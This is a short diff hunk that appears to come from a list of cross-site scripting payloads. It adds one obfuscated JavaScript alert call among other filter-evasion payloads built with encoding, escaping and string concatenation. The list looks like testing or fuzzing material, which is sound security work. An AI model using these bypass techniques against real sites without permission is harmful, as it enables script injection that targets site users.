@@ -458,6 +458,7 @@ alert&#x28;1&#x29
 \j\av\a\s\cr\i\pt\:\a\l\ert\(1\)
 [8].find(alert)
 eval('ale'+'rt(0)')
+Function("ale"+"rt(1)")();
 top['alert'](3)
 alert`1`
 Set.constructor`al\x65rt\x2814\x29```
